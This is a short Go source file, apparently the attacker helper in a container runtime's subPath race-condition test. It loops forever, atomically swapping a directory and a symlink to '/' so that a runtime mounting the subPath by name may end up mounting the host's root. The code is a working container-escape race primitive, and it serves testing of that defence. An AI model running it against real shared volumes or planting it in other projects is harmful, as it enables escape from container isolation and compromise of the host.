// Command swapper exchanges two paths atomically (renameat2 RENAME_EXCHANGE) in a loop, forever:
// the attacker of the subPath race test. Run inside a container on a shared volume, with one path a
// directory and the other a symlink to "/", it makes the directory's name point at the host's root
// for half of the time, which a runtime that resolves a subPath and later mounts it by its name
// would follow.
package main

import (
	"fmt"
	"os"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) != 3 {
		fmt.Fprintln(os.Stderr, "usage: swapper PATH1 PATH2")
		os.Exit(2)
	}
	a, b := os.Args[1], os.Args[2]
	for {
		if err := unix.Renameat2(unix.AT_FDCWD, a, unix.AT_FDCWD, b, unix.RENAME_EXCHANGE); err != nil {
			fmt.Fprintln(os.Stderr, "swap:", err)
			os.Exit(1)
		}
	}
}
